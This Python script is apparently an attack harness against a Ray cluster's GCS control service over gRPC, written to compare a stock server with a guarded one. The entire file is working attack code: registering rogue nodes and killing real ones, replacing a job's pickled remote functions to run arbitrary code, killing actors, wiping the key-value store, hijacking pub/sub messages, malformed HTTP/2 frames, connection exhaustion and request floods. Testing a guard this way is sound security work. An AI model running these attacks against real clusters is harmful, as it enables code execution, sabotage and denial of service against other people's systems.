"""What somebody with a shell on a machine of the network does to a GCS.

    python attack.py TARGET NAME [ARGUMENTS]

TARGET is a JSON object: address, token (a file), and for TLS ca, cert and key
(files). ARGUMENTS is a JSON list. Answers with one JSON object. Needs nothing but
Ray and gRPC, and does the same to a stock GCS and to a guarded one.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import pickle
import select
import socket
import ssl
import sys
import threading
import time
from collections import Counter
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import grpc
from ray.core.generated import gcs_service_pb2 as pb
from ray.core.generated import pubsub_pb2

KV = "/ray.rpc.InternalKVGcsService/InternalKV"
ACTOR = "/ray.rpc.ActorInfoGcsService/"
NODE = "/ray.rpc.NodeInfoGcsService/"
NEWS = "/ray.rpc.ControlPlanePubSubGcsService/GcsSubscriber"
SYNC = "/ray.rpc.syncer.RaySyncer/StartSync"
UNLIMITED = [
    ("grpc.max_receive_message_length", -1),
    ("grpc.max_send_message_length", -1),
]


class Gcs:
    """A client that sends whatever bytes it is given."""

    def __init__(self, target: dict[str, str]) -> None:
        self.target = target
        address = target["address"]
        if "ca" in target:
            read = {k: Path(target[k]).read_bytes() for k in ("ca", "cert", "key")}
            credentials = grpc.ssl_channel_credentials(
                read["ca"], read["key"], read["cert"]
            )
            self.channel = grpc.secure_channel(address, credentials, UNLIMITED)
        else:
            self.channel = grpc.insecure_channel(address, UNLIMITED)
        token = Path(target["token"]).read_text().strip() if "token" in target else ""
        self.metadata = (("authorization", f"Bearer {token}"),) if token else ()

    def raw(self, path: str, body: bytes, timeout_s: float = 10) -> bytes:
        """Call a method with bytes, return bytes."""
        call = self.channel.unary_unary(path, lambda raw: raw, lambda raw: raw)
        answer: bytes = call(body, metadata=self.metadata, timeout=timeout_s)
        return answer

    def kv(self, verb: str, timeout_s: float = 10, **fields: Any) -> Any:
        """Call a method of the key-value store."""
        ask = getattr(pb, f"InternalKV{verb}Request")(**fields)
        reply = getattr(pb, f"InternalKV{verb}Reply")
        return reply.FromString(self.raw(KV + verb, ask.SerializeToString(), timeout_s))


def outcome(function: Any, *arguments: Any) -> dict[str, Any]:
    """Run an attack; an error of gRPC is an outcome."""
    try:
        return {"code": "OK", **(function(*arguments) or {})}
    except grpc.RpcError as error:
        return {"code": error.code().name, "details": str(error.details())[:400]}  # type: ignore[attr-defined]


def call(gcs: Gcs, path: str, body: str = "") -> dict[str, Any]:
    """Call any method with the given bytes (hex)."""
    return {"answer": gcs.raw(path, bytes.fromhex(body)).hex()[:200]}


def call_as(gcs: Gcs, path: str, marks: dict[str, str]) -> dict[str, Any]:
    """Call a method without arguments, and say oneself what the guard's script says."""
    gcs.metadata += tuple(marks.items())
    return {"answer": gcs.raw(path, b"").hex()[:200]}


def call_all(gcs: Gcs, paths: list[str]) -> dict[str, Any]:
    """Call each method without arguments."""
    return {
        "codes": {path: outcome(_discard, gcs, path, b"")["code"] for path in paths}
    }


def short_ids(gcs: Gcs) -> None:
    """Ask about an actor whose identifier is one byte long."""
    ask = pb.GetActorInfoRequest(actor_id=b"x")
    gcs.raw(ACTOR + "GetActorInfo", ask.SerializeToString())


def register_node(gcs: Gcs, node: dict[str, Any]) -> dict[str, Any]:
    """Register a node that does not exist."""
    node_id = hashlib.sha224(os.urandom(8)).digest()
    ask = pb.RegisterNodeRequest()
    info = ask.node_info
    info.node_id = node_id
    info.node_name = node.get("name", "rogue")
    info.node_manager_address = node["address"]
    info.node_manager_hostname = "rogue"
    info.node_manager_port = 1
    info.object_manager_port = 2
    info.is_head_node = node.get("head", False)
    info.resources_total.update(node.get("resources", {"CPU": 1.0}))
    info.labels.update(node.get("labels", {}))
    gcs.raw(NODE + "RegisterNode", ask.SerializeToString())
    return {"node_id": node_id.hex(), "listed": node_id.hex() in _nodes(gcs)}


def _nodes(gcs: Gcs) -> list[str]:
    ask = pb.GetAllNodeInfoRequest().SerializeToString()
    reply = pb.GetAllNodeInfoReply.FromString(gcs.raw(NODE + "GetAllNodeInfo", ask))
    return [info.node_id.hex() for info in reply.node_info_list]


def unregister_node(gcs: Gcs, node_id: str) -> None:
    """Have the GCS count a node as dead."""
    ask = pb.UnregisterNodeRequest(node_id=bytes.fromhex(node_id))
    ask.node_death_info.reason = 1
    gcs.raw(NODE + "UnregisterNode", ask.SerializeToString())


def replace_function(gcs: Gcs, job: str, function: str) -> dict[str, Any]:
    """Replace every function of a job by another (pickled, as hex)."""
    keys = gcs.kv("Keys", namespace=b"fun", prefix=f"RemoteFunction:{job}:".encode())
    for key in keys.results:
        known = pickle.loads(gcs.kv("Get", namespace=b"fun", key=key).value)
        value = pickle.dumps({**known, "function": bytes.fromhex(function)})
        gcs.kv("Put", namespace=b"fun", key=key, value=value, overwrite=True)
    return {"replaced": len(keys.results)}


def overwrite(gcs: Gcs, namespace: str, key: str, value: str) -> dict[str, Any]:
    """Write over a key."""
    reply = gcs.kv("Put", namespace=namespace.encode(), key=key.encode(),
                   value=value.encode(), overwrite=True)  # fmt: skip
    return {"added": reply.added}


def read(gcs: Gcs, namespace: str, key: str) -> dict[str, Any]:
    """Read a key."""
    reply = gcs.kv("Get", namespace=namespace.encode(), key=key.encode())
    return {"value": reply.value.decode(errors="replace")}


def delete(gcs: Gcs, namespace: str, key: str) -> dict[str, Any]:
    """Delete a key."""
    reply = gcs.kv("Del", namespace=namespace.encode(), key=key.encode())
    return {"deleted": reply.deleted_num}


def alias(gcs: Gcs, job: str) -> dict[str, Any]:
    """Write a function of another job under the second name that it has."""
    gcs.kv("Put", namespace=b"fun", key=f"RemoteFunction:{job}:alias".encode(),
           value=b"good", overwrite=True)  # fmt: skip
    return write_alias(gcs, job)


def write_alias(gcs: Gcs, job: str) -> dict[str, Any]:
    """As `alias`, of a function that is there."""
    gcs.kv("Put", namespace=b"fun:RemoteFunction", key=f"{job}:alias".encode(),
           value=b"evil", overwrite=True)  # fmt: skip
    return read(gcs, "fun", f"RemoteFunction:{job}:alias")


def wipe(gcs: Gcs, prefix: str) -> dict[str, Any]:
    """Delete by prefix, without a namespace."""
    reply = gcs.kv("Del", key=prefix.encode(), del_by_prefix=True)
    return {"deleted": reply.deleted_num}


def list_keys(gcs: Gcs, namespace: str, prefix: str) -> dict[str, Any]:
    """List keys."""
    reply = gcs.kv("Keys", namespace=namespace.encode(), prefix=prefix.encode())
    return {"keys": [key.decode(errors="replace") for key in reply.results]}


def kill_actor(gcs: Gcs, actor_id: str) -> None:
    """Kill an actor by its id, for good."""
    ask = pb.KillActorViaGcsRequest(
        actor_id=bytes.fromhex(actor_id), force_kill=True, no_restart=True
    )
    gcs.raw(ACTOR + "KillActorViaGcs", ask.SerializeToString())


def find_actor(gcs: Gcs, namespace: str, name: str) -> dict[str, Any]:
    """Look a named actor up, as the first step of calling or killing it."""
    ask = pb.GetNamedActorInfoRequest(name=name, ray_namespace=namespace)
    raw = gcs.raw(ACTOR + "GetNamedActorInfo", ask.SerializeToString())
    reply = pb.GetNamedActorInfoReply.FromString(raw)
    return {"actor_id": reply.actor_table_data.actor_id.hex()}


def sync_without_node(gcs: Gcs) -> None:
    """Open the stream of resource reports without saying whose it is."""
    stream = gcs.channel.stream_stream(SYNC, lambda raw: raw, lambda raw: raw)
    for _ in stream(iter([b""]), metadata=gcs.metadata, timeout=5):
        break


def two_tokens(gcs: Gcs) -> dict[str, Any]:
    """Send the token and another one."""
    metadata = (*gcs.metadata, ("authorization", "Bearer " + "0" * 64))
    stub = gcs.channel.unary_unary(NODE + "GetAllNodeInfo", lambda r: r, lambda r: r)
    return {"answer": stub(b"", metadata=metadata, timeout=10).hex()[:80]}


def compressed(gcs: Gcs) -> None:
    """Look a node up in a request that is compressed."""
    stub = gcs.channel.unary_unary(NODE + "GetAllNodeInfo", lambda r: r, lambda r: r)
    stub(bytes(4096), metadata=gcs.metadata, timeout=10,
         compression=grpc.Compression.Gzip)  # fmt: skip


def forbidden(gcs: Gcs, count: int) -> dict[str, Any]:
    """Call a method that is not the caller's, often; count what is answered."""
    stub = gcs.channel.unary_unary(NODE + "RegisterNode", lambda r: r, lambda r: r)
    calls = [stub.future(b"", metadata=gcs.metadata, timeout=20) for _ in range(count)]
    seen: Counter[str] = Counter()
    for each in calls:
        seen[f"{each.code().name}: {each.details()}"] += 1
    return {"seen": dict(seen)}


def oversized(gcs: Gcs, path: str, mebibytes: int, wait_s: float) -> None:
    """Send a request that is long, and not ended for a while."""

    def pieces() -> Iterator[bytes]:
        for _ in range(mebibytes):
            yield bytes(1 << 20)
        time.sleep(wait_s)

    stub = gcs.channel.stream_unary(path, lambda r: r, lambda r: r)
    stub(pieces(), metadata=gcs.metadata, timeout=wait_s)


def drain_budget(gcs: Gcs) -> dict[str, Any]:
    """Write until the budget of bytes is spent; count what is answered."""
    ask = pb.InternalKVPutRequest(
        namespace=b"drain", key=b"k", value=bytes(6 << 20), overwrite=True
    )
    seen: Counter[str] = Counter()
    for _ in range(4):
        said = outcome(_discard, gcs, KV + "Put", ask.SerializeToString())
        seen[f"{said['code']}: {said.get('details', '')}"] += 1
    return {"seen": dict(seen)}


def junk(gcs: Gcs) -> dict[str, Any]:
    """Send what no client sends, on connections of its own; count what happens."""
    seen: Counter[str] = Counter()
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    settings = bytes(3) + b"\x04" + bytes(5)
    payloads = (
        os.urandom(4096),
        preface + os.urandom(4096),
        preface + settings + b"\x00\xff\xff\x00\x05\x00\x00\x00\x01" + os.urandom(64),
        preface + settings + b"\x00\x00\x04\x08\x00\x00\x00\x00\x00\x00\x00\x00\x00",
        preface + settings + (b"\x00\x00\x00\x04\x00\x00\x00\x00\x00" * 20000),
        b"GET / HTTP/1.1\r\nhost: x\r\n\r\n",
    )
    with ThreadPoolExecutor(len(payloads)) as pool:
        seen.update(pool.map(lambda payload: _junk(gcs.target, payload), payloads))
    return dict(seen)


def _junk(target: dict[str, str], payload: bytes) -> str:
    with _connect(target) as sock:
        try:
            sock.sendall(payload)
            sock.settimeout(3)
            while sock.recv(65536):
                pass
        except TimeoutError:
            return "open"
        except OSError:
            pass
    return "closed"


def _connect(target: dict[str, str], protocol: str = "h2") -> socket.socket:
    host, _, port = target["address"].partition(":")
    sock = socket.create_connection((host, int(port)), timeout=5)
    if "ca" not in target:
        return sock
    context = ssl.create_default_context(cafile=target["ca"])
    context.load_cert_chain(target["cert"], target["key"])
    context.set_alpn_protocols([protocol])
    return context.wrap_socket(sock, server_hostname=host)


def hold(gcs: Gcs, count: int) -> None:
    """Open connections and keep them; each line of input is answered with how many."""
    held = []
    for _ in range(count):
        # Those that are one too many end in their handshake.
        with contextlib.suppress(OSError):
            held.append(_connect(gcs.target))
    for _ in sys.stdin:
        ended = select.select(held, [], [], 0)[0]
        print(len(held) - len(ended), flush=True)


def malformed(gcs: Gcs) -> dict[str, Any]:
    """Call methods with bytes that are no such message."""
    seen = {}
    for name, path in (
        ("put", KV + "Put"),
        ("kill", ACTOR + "KillActorViaGcs"),
        ("actor", ACTOR + "RegisterActor"),
        ("node", NODE + "RegisterNode"),
        ("nothing", "/ray.rpc.NoSuchService/Nothing"),
        ("dots", "/ray.rpc.InternalKVGcsService/../NodeInfoGcsService/RegisterNode"),
    ):
        for label, body in (("random", b"\xff" * 200), ("cut", b"\x0a\x7f12")):
            seen[f"{name}-{label}"] = outcome(_discard, gcs, path, body)["code"]
    return {"seen": seen}


def _discard(gcs: Gcs, path: str, body: bytes) -> None:
    gcs.raw(path, body)


def plain_ports(gcs: Gcs, ports: list[int]) -> dict[str, Any]:
    """Connect to each port and say what it answers to HTTP."""
    host = gcs.target["address"].partition(":")[0]
    with ThreadPoolExecutor(16) as pool:
        found = pool.map(lambda port: _plain_port(host, port), ports)
        return {"answers": dict(zip(map(str, ports), found))}


def _plain_port(host: str, port: int) -> str:
    try:
        with socket.create_connection((host, port), timeout=1) as sock:
            sock.sendall(b"GET / HTTP/1.0\r\n\r\n")
            sock.settimeout(2)
            return sock.recv(64).decode(errors="replace")
    except OSError as error:
        return type(error).__name__


def https(gcs: Gcs, method: str, path: str, body: str = "") -> dict[str, Any]:
    """Send one HTTP request over TLS, with the token."""
    with _connect(gcs.target, "http/1.1") as sock:
        lines = [
            f"{method} {path} HTTP/1.1", "host: x", "connection: close",
            f"content-length: {len(body)}", "content-type: application/json",
            *(f"{k}: {v}" for k, v in gcs.metadata), "", body,
        ]  # fmt: skip
        sock.sendall("\r\n".join(lines).encode())
        sock.settimeout(20)
        answer = b"".join(iter(lambda: sock.recv(65536), b""))
        return {
            "status": int(answer.split()[1]), "text": answer.decode(errors="replace")
        }  # fmt: skip


def batch(gcs: Gcs, calls: list[list[Any]]) -> dict[str, Any]:
    """Do several attacks; return the code of each."""
    return {
        "codes": [outcome(globals()[name], gcs, *rest)["code"] for name, *rest in calls]
    }


def _flood(gcs: Gcs, seconds: float, threads: int, one: Any) -> dict[str, Any]:
    """Call `one(channel number)` from many threads; count outcomes."""
    end, seen, lock = time.monotonic() + seconds, Counter[str](), threading.Lock()
    print("began", flush=True)

    def run(number: int) -> None:
        mine = Counter[str]()
        client = Gcs(gcs.target)
        while time.monotonic() < end:
            try:
                one(client, number)
                mine["OK"] += 1
            except grpc.RpcError as error:
                mine[error.code().name] += 1  # type: ignore[attr-defined]
        with lock:
            seen.update(mine)

    with ThreadPoolExecutor(threads) as pool:
        list(pool.map(run, range(threads)))
    return {"seen": dict(seen)}


def flood_small(gcs: Gcs, seconds: float) -> dict[str, Any]:
    """Small writes and reads, as many as the connection takes."""
    value = os.urandom(4096)

    def one(client: Gcs, number: int) -> None:
        client.kv("Put", namespace=b"flood", key=b"small%d" % number, value=value,
                  overwrite=True)  # fmt: skip

    return _flood(gcs, seconds, 16, one)


def flood_reads(gcs: Gcs, seconds: float) -> dict[str, Any]:
    """Reads of a large value, each given up after some milliseconds."""
    gcs.kv("Put", 60, namespace=b"flood", key=b"large", value=os.urandom(4 << 20),
           overwrite=True)  # fmt: skip

    def one(client: Gcs, number: int) -> None:
        client.kv("Get", 0.02, namespace=b"flood", key=b"large")

    return _flood(gcs, seconds, 8, one)


def flood_writes(gcs: Gcs, seconds: float) -> dict[str, Any]:
    """Writes of large values under ever new keys."""
    value = os.urandom(1 << 20)

    def one(client: Gcs, number: int) -> None:
        client.kv("Put", 20, namespace=b"flood", key=b"w" + os.urandom(8), value=value,
                  overwrite=True)  # fmt: skip

    return _flood(gcs, seconds, 4, one)


def flood_held(gcs: Gcs, seconds: float) -> dict[str, Any]:
    """Wait for news with as many calls as a guard lets one open on 16 connections."""
    calls = []
    print("began", flush=True)
    for _ in range(16):
        channel = Gcs(gcs.target).channel
        stub = channel.unary_unary(NEWS + "Poll", lambda r: r, lambda r: r)
        for _ in range(250):
            ask = pb.GcsSubscriberPollRequest(subscriber_id=os.urandom(28))
            body = ask.SerializeToString()
            calls.append(stub.future(body, metadata=gcs.metadata, timeout=seconds))
    seen: Counter[str] = Counter(each.code().name for each in calls)
    return {"seen": dict(seen)}


def cancel_news(gcs: Gcs, subscriber: str, actor_id: str) -> None:
    """Have somebody be told nothing any more of what becomes of an actor."""
    ask = pb.GcsSubscriberCommandBatchRequest(subscriber_id=bytes.fromhex(subscriber))
    command = ask.commands.add(channel_type=pubsub_pb2.GCS_ACTOR_CHANNEL)
    command.key_id = bytes.fromhex(actor_id)
    command.unsubscribe_message.SetInParent()
    gcs.raw(NEWS + "CommandBatch", ask.SerializeToString())


def take_news(gcs: Gcs, subscriber: str, seconds: float) -> dict[str, Any]:
    """Wait for somebody's news in its place, whoever else does."""
    ask = pb.GcsSubscriberPollRequest(subscriber_id=bytes.fromhex(subscriber))
    end, told = time.monotonic() + seconds, []
    while not told and (left_s := end - time.monotonic()) > 0:
        reply = gcs.raw(NEWS + "Poll", ask.SerializeToString(), left_s)
        messages = pb.GcsSubscriberPollReply.FromString(reply).pub_messages
        told = [message.key_id.hex() for message in messages]
    return {"told": told}


def many_subscribers(gcs: Gcs, count: int) -> dict[str, Any]:
    """Wait for news under ever new names, for a moment each."""
    stub = gcs.channel.unary_unary(NEWS + "Poll", lambda r: r, lambda r: r)
    seen: Counter[str] = Counter()
    for _ in range(count // 256):
        calls = []
        for _ in range(256):
            ask = pb.GcsSubscriberPollRequest(subscriber_id=os.urandom(28))
            body = ask.SerializeToString()
            calls.append(stub.future(body, metadata=gcs.metadata, timeout=0.5))
        seen.update(each.code().name for each in calls)
    return {"seen": dict(seen)}


def main() -> None:
    """Do one attack."""
    gcs = Gcs(json.loads(sys.argv[1]))
    arguments = json.loads(sys.argv[3]) if len(sys.argv) > 3 else []
    print(json.dumps(outcome(globals()[sys.argv[2]], gcs, *arguments)), flush=True)
    # Channels may hold threads that wait for what never comes.
    os._exit(0)


if __name__ == "__main__":
    main()
